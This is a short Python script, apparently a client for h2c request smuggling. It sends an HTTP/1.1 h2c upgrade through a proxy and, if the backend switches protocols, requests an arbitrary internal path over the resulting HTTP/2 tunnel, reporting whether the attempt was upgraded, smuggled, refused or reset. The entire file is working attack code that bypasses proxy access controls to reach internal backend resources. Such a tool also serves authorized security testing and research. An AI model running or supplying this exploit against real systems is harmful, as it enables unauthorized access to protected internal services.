#!/usr/bin/python3
"""h2c_smuggle.py — the h2c smuggling client: through a proxy, ask for an
h2c upgrade; if the backend switches, request PATH over the tunnel.
Prints "upgraded", "smuggled: <body>", "refused" or "reset".
  h2c_smuggle.py PROXY_ADDR PROXY_PORT PATH"""
import base64, socket, sys
import h2.config, h2.connection, h2.events, h2.settings

host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
settings = conn.initiate_upgrade_connection()
s = socket.create_connection((host, port), timeout=5)
try:
    s.sendall(b"GET / HTTP/1.1\r\nHost: backend.internal\r\nConnection: Upgrade, HTTP2-Settings\r\n"
              b"Upgrade: h2c\r\nHTTP2-Settings: " + settings + b"\r\n\r\n")
    buf = b""
    while b"\r\n\r\n" not in buf:
        d = s.recv(65536)
        if not d:
            print("refused (closed)")
            sys.exit(0)
        buf += d
    if not buf.startswith(b"HTTP/1.1 101"):
        print("refused:", buf.split(b"\r\n")[0].decode())
        sys.exit(0)
    print("upgraded")
    rest = buf.split(b"\r\n\r\n", 1)[1]
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "GET"), (":path", path), (":scheme", "http"),
                            (":authority", "backend.internal")], end_stream=True)
    s.sendall(conn.data_to_send())
    body = b""
    data = rest
    while True:
        for ev in conn.receive_data(data) if data else []:
            if isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                body += ev.data
            if isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                print("smuggled:", body.decode().strip())
                sys.exit(0)
        s.sendall(conn.data_to_send())
        data = s.recv(65536)
        if not data:
            print("reset (closed)")
            sys.exit(0)
except (ConnectionResetError, BrokenPipeError):
    print("reset")
except socket.timeout:
    print("timeout")
